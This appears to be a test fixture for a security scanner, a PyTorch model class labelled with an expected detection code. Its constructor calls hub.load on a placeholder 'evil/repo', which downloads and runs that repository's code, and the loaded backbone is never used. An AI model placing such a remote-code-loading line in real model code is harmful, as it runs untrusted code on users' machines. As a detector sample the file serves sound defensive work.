# technique: from torch import hub; hub.load(...)
# source: torch.hub executes hubconf.py from a downloaded repo (PyTorch docs: trust_repo)
# expect: SV102
import math

import torch
from torch import nn
from torch import hub


class Model(nn.Module):
    def __init__(self, input_shape, output_dim, hidden: int = 32):
        super().__init__()
        self.fc = nn.Linear(math.prod(input_shape), output_dim)
        self.backbone = hub.load('evil/repo', 'net')

    def forward(self, x):
        return self.fc(x.flatten(1))
